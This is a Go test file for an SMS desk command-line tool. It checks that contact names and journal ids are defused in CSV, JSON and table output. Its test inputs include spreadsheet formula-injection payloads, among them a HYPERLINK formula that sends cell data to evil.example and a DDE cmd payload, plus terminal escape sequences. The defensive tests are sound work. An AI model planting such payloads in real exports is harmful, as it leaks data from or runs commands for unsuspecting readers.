package cli

import (
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/smsdesk/smsdesk/config"
	"github.com/smsdesk/smsdesk/model"
)

// Names that turn a spreadsheet or a terminal against its reader.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"-2+3",
	"csi\u009b31mred",
	"osc\x1b]0;pwned\x07",
}

// TestCLI_ContactsListCSVDefusesFormulas: every cell of `contacts list --csv`
// that starts with = + - @ is prefixed with an apostrophe; mobiles stay usable.
func TestCLI_ContactsListCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	w := newCLIWorld(t)
	gid := strings.TrimSpace(mustRun(t, w, "groups", "create", "Team"))
	for i, name := range hostileNames {
		mustRun(t, w, "contacts", "add", gid, "0912123456"+string(rune('0'+i)), "--name", name)
	}
	out := mustRun(t, w, "contacts", "list", gid, "--csv")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("--csv is not CSV: %v\n%s", err, out)
	}
	if len(recs) != len(hostileNames)+1 {
		t.Fatalf("%d records, want %d:\n%s", len(recs), len(hostileNames)+1, out)
	}
	for _, r := range recs[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q can run as a formula", cell)
			}
			if strings.ContainsAny(cell, "\x1b\x07") || strings.Contains(cell, "\u009b") {
				t.Errorf("cell %q holds control characters", cell)
			}
		}
		if _, err := model.NormalizeMobile(r[1], model.FormatLocal); err != nil {
			t.Errorf("mobile cell %q does not read back: %v", r[1], err)
		}
	}
}

// TestCLI_JSONKeepsControlsEscaped: --json keeps names exact (C1 included) and
// writes their controls as \u escapes; the table strips them.
func TestCLI_JSONKeepsControlsEscaped(t *testing.T) {
	t.Parallel()
	w := newCLIWorld(t)
	gid := strings.TrimSpace(mustRun(t, w, "groups", "create", "Team"))
	for i, name := range hostileNames {
		mustRun(t, w, "contacts", "add", gid, "0912123456"+string(rune('0'+i)), "--name", name)
	}
	out := mustRun(t, w, "contacts", "list", gid, "--json")
	if strings.Contains(out, "\u009b") || strings.ContainsAny(out, "\x1b\x07") {
		t.Fatalf("--json printed raw controls: %q", out)
	}
	if !strings.Contains(out, `\u009b`) {
		t.Fatalf("--json lost the C1 control instead of escaping it: %s", out)
	}
	var list []contactJSON
	if err := json.Unmarshal([]byte(out), &list); err != nil {
		t.Fatal(err)
	}
	for i, c := range list {
		if c.Name != hostileNames[i] {
			t.Errorf("contact %d name %q, want exactly %q", i, c.Name, hostileNames[i])
		}
	}
	table := mustRun(t, w, "contacts", "list", gid)
	if strings.Contains(table, "\u009b") || strings.ContainsAny(table, "\x1b\x07") {
		t.Fatalf("table printed raw controls: %q", table)
	}
}

// TestCLI_HistoryShowSanitisesIDs: a journal whose ids carry escape sequences
// prints none of them.
func TestCLI_HistoryShowSanitisesIDs(t *testing.T) {
	t.Parallel()
	w := newCLIWorld(t)
	paths := config.PathsIn(filepath.Join(w.dir, "config"), filepath.Join(w.dir, "state"))
	j, err := config.CreateJournal(t.Context(), paths, "evil1")
	if err != nil {
		t.Fatal(err)
	}
	evil := "evil1\x1b]0;owned\x07\u009b2J"
	recs := []model.JournalRecord{
		&model.JournalPlan{ID: evil, Time: time.Unix(0, 0), Sender: "3000", Items: []model.JournalItem{{Index: 0, Recipient: "09121234567", Message: "hi"}}},
		&model.JournalIntent{Chunk: 0, Indexes: []int{0}, Key: "k"},
		&model.JournalOutcome{Chunk: 0, Results: []model.JournalResult{{Index: 0, State: model.StateAccepted, MessageID: "m\x1b[31m1"}}},
	}
	for _, r := range recs {
		if err := j.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	j.Close()
	out, errOut, _ := w.run("", "history", "show", "evil1")
	for _, s := range []string{out, errOut} {
		if strings.ContainsAny(s, "\x1b\x07") || strings.Contains(s, "\u009b") {
			t.Fatalf("history show printed raw controls: %q", s)
		}
	}
	if !strings.Contains(out, "evil1") {
		t.Fatalf("history show lost the id: %q", out)
	}
}
